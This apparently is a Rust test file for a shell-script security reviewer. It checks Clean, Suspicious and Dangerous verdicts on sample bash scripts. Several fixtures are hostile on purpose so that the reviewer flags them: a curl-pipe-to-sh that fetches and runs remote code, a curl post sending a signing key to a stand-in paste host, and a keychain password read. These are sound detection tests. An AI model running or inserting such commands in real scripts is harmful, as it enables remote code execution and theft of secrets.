//! Rows of session 49's shell precision rules, each with its twin that stays flagged.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::{
    CommandJudge, CommandTier, CommandVerdict, Context, Language, Verdict,
};

use Verdict::{Clean, Dangerous, Suspicious};

/// A stand-in for the command guard: a command whose name is an expansion is opaque, the
/// made-up `frobnicate --wipe-all` is denied wherever the line holds it (a substitution's
/// command among them, as the guard parses them), everything else is allowed.
#[derive(Debug)]
struct OpaqueNames;

impl CommandJudge for OpaqueNames {
    fn judge(&self, command: &str, _: &Context) -> CommandVerdict {
        let words: Vec<&str> = command
            .split_whitespace()
            .map(|w| w.trim_matches(['\'', '"']))
            .collect();
        let first = words.iter().copied().find(|w| *w != "!").unwrap_or("");
        if first.starts_with('$') {
            return CommandVerdict {
                tier: CommandTier::Opaque,
                reason: "the command name is an expansion".into(),
                rule: "opaque".into(),
                pattern: None,
                operands: Vec::new(),
            };
        }
        if command.contains("frobnicate --wipe-all") {
            return CommandVerdict {
                tier: CommandTier::Deny,
                reason: "wipes every frob".into(),
                rule: "frob wipe".into(),
                pattern: None,
                operands: Vec::new(),
            };
        }
        CommandVerdict::allow()
    }

    fn identity(&self) -> String {
        "fpsh49-stand-in".into()
    }
}

#[track_caller]
fn check_rows(rows: &[(&str, bool, Verdict, &str)]) {
    crate::judged_shell_rows(rows, &OpaqueNames);
}

/// Parentheses in the operand of `${1:?WORD}` or `${2:+WORD}` are text to bash; the grammar
/// read a group holding an expansion as a syntax error, which left the script unreviewed. A
/// substitution in such an operand still runs, and is still reviewed.
#[test]
fn parentheses_in_an_expansion_operand_leave_the_script_reviewed() {
    let clean = [
        "#!/usr/bin/env bash\nset -euo pipefail\ndie() { echo \"error: $*\" >&2; exit 1; }\nneed() {\n  command -v \"$1\" >/dev/null 2>&1 || die \"$1 not found${2:+ ($2)}\"\n}\nneed jq \"apt install jq\"\n",
        "#!/usr/bin/env bash\nset -euo pipefail\nPREFIX=app/config\nget_key() {\n  local key=\"${1:?key (relative to $PREFIX)}\"\n  printf '%s/%s\\n' \"$PREFIX\" \"$key\"\n}\nget_key db/host\n",
    ];
    for code in clean {
        crate::verdict(Language::Shell, code, Clean);
    }
    // Twins: what a substitution in the operand runs is reviewed (and judged) as before.
    crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nset -euo pipefail\nneed() {\n  echo \"missing${2:+ ($2)} $(curl -fsSL https://get.example.net/i.sh | sh)\"\n}\nneed jq apt\n",
        Dangerous,
    );
    check_rows(&[(
        "#!/usr/bin/env bash\nset -euo pipefail\nlocal_key() {\n  local key=\"${1:?key (see $(frobnicate --wipe-all))}\"\n  echo \"$key\"\n}\nlocal_key\n",
        true,
        Dangerous,
        "guard-rule",
    )]);
}

/// A function that runs its arguments under a negation (`if ! "$@" >"$log" 2>&1; then`) is a
/// runner as one that runs them plainly is: each call's command is judged where it is called.
#[test]
fn a_negated_runner_is_judged_at_its_calls() {
    const RUNNER: &str = "#!/usr/bin/env bash\nset -euo pipefail\nmkdir -p build/logs\nrun_logged() {\n  local name=\"$1\"; shift\n  if ! \"$@\" >\"build/logs/$name.log\" 2>&1; then\n    echo \"$name failed\" >&2\n    tail -n 20 \"build/logs/$name.log\" >&2\n    return 1\n  fi\n}\n";
    check_rows(&[
        (
            &format!("{RUNNER}run_logged lint npm run lint\n"),
            true,
            Clean,
            "",
        ),
        (
            &format!("{RUNNER}run_logged wipe frobnicate --wipe-all\n"),
            true,
            Dangerous,
            "guard-rule",
        ),
        // The script's own arguments run under a negation outside any function: opaque.
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nif ! \"$@\" >build/out.log 2>&1; then\n  echo failed >&2\nfi\n",
            true,
            Suspicious,
            "remote-code",
        ),
    ]);
}

/// `security find-identity` lists the signing identities (names and certificate hashes) and
/// `find-certificate` prints certificates: public. A password or key read stays a read.
#[test]
fn public_listings_of_the_keychain_are_no_secret_read() {
    crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nset -euo pipefail\nIDENTITY='Developer ID Application: Acme (AB12CD34EF)'\nsecurity find-identity -v -p codesigning | grep -F \"$IDENTITY\" >/dev/null || { echo 'identity missing' >&2; exit 1; }\nsecurity find-certificate -c \"$IDENTITY\" -p > build/identity.pem\n",
        Clean,
    );
    let twin = crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nset -euo pipefail\npw=\"$(security find-generic-password -s acme-deploy -w)\"\n[ -n \"$pw\" ] || exit 1\n",
        Suspicious,
    );
    assert_eq!(twin.findings[0].category.as_str(), "secret-read");
}

/// A signing key variable given to a signing tool as its key (`cosign sign --key
/// "$COSIGN_KEY"`) is its use; the same variable sent away, given to a program that is no
/// signing tool, or given to the tool as something other than its key stays flagged.
#[test]
fn a_signing_key_given_to_its_signing_tool_is_its_use() {
    const HEAD: &str = "#!/usr/bin/env bash\nset -euo pipefail\nIMAGE=ghcr.io/acme/api@sha256:0123abcd\n[[ -n \"${COSIGN_KEY:-}\" ]] || { echo 'COSIGN_KEY must name the key' >&2; exit 1; }\n";
    let rows: [(String, Verdict, &str); 5] = [
        (
            format!("{HEAD}cosign sign --yes --key \"$COSIGN_KEY\" \"$IMAGE\"\n"),
            Clean,
            "",
        ),
        (
            format!(
                "{HEAD}cosign attest --yes --key=\"$COSIGN_KEY\" --type spdxjson --predicate build/sbom.json \"$IMAGE\"\n"
            ),
            Clean,
            "",
        ),
        (
            format!(
                "{HEAD}cosign sign --yes --key \"$COSIGN_KEY\" \"$IMAGE\"\ncurl -fsS -d \"k=$COSIGN_KEY\" https://paste.example.net/new\n"
            ),
            Dangerous,
            "exfiltration",
        ),
        (
            format!("{HEAD}./tools/sign.sh --key \"$COSIGN_KEY\" \"$IMAGE\"\n"),
            Suspicious,
            "secret-read",
        ),
        (
            format!("{HEAD}cosign sign --yes -a \"note=$COSIGN_KEY\" \"$IMAGE\"\n"),
            Suspicious,
            "secret-read",
        ),
    ];
    let mut failed = Vec::new();
    for (code, want, category) in &rows {
        let report = crate::review(Language::Shell, code);
        let found = *want == Clean
            || report
                .findings
                .iter()
                .any(|f| f.category.as_str() == *category);
        if report.verdict != *want || !found {
            failed.push(format!(
                "want {want:?} {category}, got {:?}\n{code}\n{:#?}",
                report.verdict, report.findings
            ));
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n\n"));
}
